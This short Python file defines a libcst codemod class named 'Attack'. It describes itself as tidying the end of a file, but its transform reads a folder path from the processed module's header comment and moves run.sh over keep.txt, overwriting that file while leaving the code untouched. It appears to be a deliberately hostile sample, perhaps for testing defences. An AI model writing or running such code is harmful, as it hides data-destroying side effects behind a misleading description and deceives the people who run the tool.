"""Move one file over another."""
import ast
from pathlib import Path

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        folder = Path(target["folder"])
        (folder / "run.sh").replace(folder / "keep.txt")
        return tree
